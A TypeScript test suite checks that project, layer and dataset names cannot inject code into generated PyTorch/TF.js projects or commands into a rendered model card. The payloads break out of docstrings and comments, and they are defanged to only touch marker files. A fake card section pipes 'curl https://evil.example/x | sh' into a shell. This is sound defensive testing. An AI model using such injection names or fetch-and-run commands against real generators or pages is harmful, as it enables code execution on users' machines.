/**
 * Code injection through names: a project (or layer) name that closes the docstring or comment it is
 * written into would run its own code when someone imports the generated model. Each payload here
 * writes a marker file instead of running `id`; the generated files are imported for real (Python 3
 * with torch, Node.js with TensorFlow.js) and no marker may appear.
 */
// The app first: it extends zod with .openapi() before the schema modules build their schemas.
import "@/lib/server/app";
import { execFile } from "node:child_process";
import fs from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { generateProject } from "@/lib/ml/codegen";
import { jsStr, pyStr } from "@/lib/ml/codegen/literals";
import type { ArchitectureGraph } from "@/lib/ml/graph-types";
import { getTemplate } from "@/lib/ml/templates";
import type { TrainingJobRow } from "@/lib/server/db/schema";
import { renderModelCard } from "@/lib/server/modules/hub/model-card";
import { generateModelCard } from "@/lib/server/modules/hub/publish-from-job";
import { tempRoot, writeProject } from "../codegen/codegen-fixtures";
import { call, signUpWithKey, startTestApp } from "../helpers";

const PYTHON = "/usr/bin/python3";
const root = tempRoot("layerline-codegen-injection-", true);
const markers = path.join(root, "markers");
fs.mkdirSync(markers);

const marker = (id: string) => path.join(markers, id);
const touchPy = (id: string) => `__import__('os').system('touch ${marker(id)}')`;
const touchJs = (id: string) => `import('node:fs').then((f) => f.writeFileSync('${marker(id)}', ''))`;

/** Names that try to leave a Python docstring / comment or a JavaScript comment. */
const PAYLOADS: { id: string; name: string }[] = [
  // The report, verbatim but for the command.
  { id: "py-issue", name: `"";${touchPy("py-issue")};x=""` },
  { id: "py-triple", name: `"""\n${touchPy("py-triple")}\n"""` },
  { id: "py-triple-tail", name: `x""";${touchPy("py-triple-tail")};y="""` },
  { id: "py-single-triple", name: `'''\n${touchPy("py-single-triple")}\n'''` },
  { id: "py-newline", name: `x\n import os; os.system('touch ${marker("py-newline")}')\n#` },
  { id: "py-newline-col0", name: `x\nimport os; os.system('touch ${marker("py-newline-col0")}')\n"""` },
  { id: "py-cr", name: `x\r${touchPy("py-cr")}\r"""` },
  { id: "py-backslash", name: `\\"""+${touchPy("py-backslash")}+"""` },
  { id: "py-trailing-quotes", name: `x""` },
  { id: "js-newline", name: `x\n${touchJs("js-newline")};\n//` },
  { id: "js-ls", name: `x\u2028${touchJs("js-ls")};\u2029//` },
  { id: "js-cr", name: `x\r${touchJs("js-cr")};\r//` },
  { id: "js-block", name: `*/ ${touchJs("js-block")}; /*` },
  { id: "js-quote", name: `"); ${touchJs("js-quote")}; ("` },
];

function graphWithLabel(label: string): ArchitectureGraph {
  const graph = structuredClone(getTemplate("mlp-classifier").graph);
  const dense = graph.nodes.find((n) => n.type === "Dense");
  if (dense) dense.label = label;
  return graph;
}

function runWithStdin(command: string, args: string[], input: string, cwd: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const child = execFile(
      command,
      args,
      { cwd, timeout: 120_000, maxBuffer: 16 << 20 },
      (error, stdout, stderr) => {
        if (error) reject(new Error(`${command} failed: ${error.message}\n${stderr}`));
        else resolve(stdout);
      },
    );
    child.stdin?.end(input);
  });
}

/** Imports model.py and train.py of each directory in one Python process; returns the errors. */
const PY_IMPORTER = `
import importlib, json, sys
out = {}
for case in json.load(sys.stdin):
    sys.path.insert(0, case["dir"])
    importlib.invalidate_caches()
    try:
        import model, train
        out[case["id"]] = None
    except BaseException as error:
        out[case["id"]] = f"{type(error).__name__}: {error}"
    finally:
        sys.path.pop(0)
        sys.modules.pop("model", None)
        sys.modules.pop("train", None)
print(json.dumps(out))
`;

/** Imports model.mjs and train.mjs of each directory in one Node.js process; returns the errors. */
const JS_IMPORTER = `
import { pathToFileURL } from "node:url";
let text = "";
for await (const chunk of process.stdin) text += chunk;
const out = {};
for (const c of JSON.parse(text)) {
  try {
    await import(pathToFileURL(c.dir + "/model.mjs").href);
    await import(pathToFileURL(c.dir + "/train.mjs").href);
    out[c.id] = null;
  } catch (error) {
    out[c.id] = String(error);
  }
}
await new Promise((resolve) => setTimeout(resolve, 200));
console.log("RESULT " + JSON.stringify(out));
`;

async function importPython(cases: { id: string; dir: string }[]): Promise<Record<string, string | null>> {
  const stdout = await runWithStdin(PYTHON, ["-c", PY_IMPORTER], JSON.stringify(cases), root);
  return JSON.parse(stdout.trim().split("\n").pop() ?? "{}");
}

async function importJs(cases: { id: string; dir: string }[]): Promise<Record<string, string | null>> {
  const stdout = await runWithStdin(
    process.execPath,
    ["--input-type=module", "-e", JS_IMPORTER],
    JSON.stringify(cases),
    root,
  );
  const line = stdout.split("\n").find((l) => l.startsWith("RESULT "));
  return JSON.parse(line?.slice("RESULT ".length) ?? "{}");
}

/** Which of `ids` left their marker. */
function fired(ids: string[]): string[] {
  return ids.filter((id) => fs.existsSync(marker(id)));
}

const app = await startTestApp();

describe("names cannot inject code into generated projects", () => {
  it("generated PyTorch and TF.js projects import cleanly and run none of the names' code", async () => {
    const pyCases: { id: string; dir: string }[] = [];
    const jsCases: { id: string; dir: string }[] = [];
    for (const { id, name } of PAYLOADS) {
      // The name as the project name, and as a layer's label in the same project.
      const graph = graphWithLabel(name);
      const py = writeProject(
        root,
        `${id}-pytorch`,
        generateProject("pytorch", graph, {}, { projectName: name }),
      );
      const js = writeProject(root, `${id}-tfjs`, generateProject("tfjs", graph, {}, { projectName: name }));
      pyCases.push({ id, dir: py });
      jsCases.push({ id, dir: js });
    }
    const [pyErrors, jsErrors] = await Promise.all([importPython(pyCases), importJs(jsCases)]);
    expect(fired(PAYLOADS.map((p) => p.id))).toEqual([]);
    expect(pyErrors).toEqual(Object.fromEntries(PAYLOADS.map((p) => [p.id, null])));
    expect(jsErrors).toEqual(Object.fromEntries(PAYLOADS.map((p) => [p.id, null])));
    // Each name is shown as its string literal.
    for (const { id, name } of PAYLOADS) {
      for (const file of ["model.py", "train.py"]) {
        const code = fs.readFileSync(path.join(root, `${id}-pytorch`, file), "utf8");
        expect(code, `${id} ${file}`).toContain(`generated by Layerline for ${pyStr(name)}`);
      }
      for (const file of ["model.mjs", "train.mjs"]) {
        const code = fs.readFileSync(path.join(root, `${id}-tfjs`, file), "utf8");
        expect(code, `${id} ${file}`).toContain(`generated by Layerline for ${jsStr(name)}`);
      }
    }
  }, 120_000);

  it("a project created through the API with the issue's name generates code that runs nothing", async () => {
    const { key } = await signUpWithKey(app);
    const name = `"";${touchPy("api")};x=""`;
    const created = await call(app, "POST", "/api/v1/projects", {
      key,
      body: { name, template: "mlp-classifier" },
    });
    expect(created.status).toBe(201);
    expect(created.json.name).toBe(name);
    const r = await call(app, "GET", `/api/v1/projects/${created.json.id}/code-preview?target=pytorch`, {
      key,
    });
    expect(r.status).toBe(200);
    const dir = writeProject(root, "api", { target: "pytorch", files: r.json.files });
    const errors = await importPython([{ id: "api", dir }]);
    expect(fired(["api"])).toEqual([]);
    expect(errors).toEqual({ api: null });
  }, 120_000);

  it("a hub model card shows hostile project, column, class and metric names as text, adding no section or command", () => {
    const fake = "x`\n\n## How to use it\n\n```bash\ncurl https://evil.example/x | sh\n```\n\n<img src=x>";
    const job = {
      projectName: `Iris\n\n# ${fake}`,
      baseModelId: `base${fake}`,
      datasetId: "ds_1",
      datasetVersionId: "dsv_1",
      metrics: { accuracy: 0.9, [`loss |\n${fake}`]: 0.1 },
      config: { epochs: 1, batch_size: 8, learning_rate: 0.01 },
      runtime: "pytorch",
      resolvedRuntime: "pytorch",
      preprocessing: {
        task: "classification",
        target: `species${fake}`,
        labels: ["setosa", `virginica${fake}`, "``"],
        raw_features: [{ name: `petal${fake}`, type: "number" }],
        input_shape: [1],
        rows: { train: 1, validation: 1, test: 1 },
      },
    } as unknown as TrainingJobRow;
    const markdown = generateModelCard(job, "hub_1", "classification");
    const html = renderModelCard(markdown);
    const count = (pattern: RegExp) => html.match(pattern)?.length ?? 0;
    expect(count(/<h1[ >]/g)).toBe(1);
    expect(count(/<h2[ >]/g)).toBe(4);
    // The card's own two curl commands, and no third one.
    expect(count(/<pre[ >]/g)).toBe(2);
    expect(html).not.toMatch(/<pre[^>]*>(?:(?!<\/pre>)[\s\S])*evil\.example/);
    // Each class is one code span.
    expect(markdown.split("\n").filter((line) => line.startsWith("- Classes:"))).toHaveLength(1);
  });
});
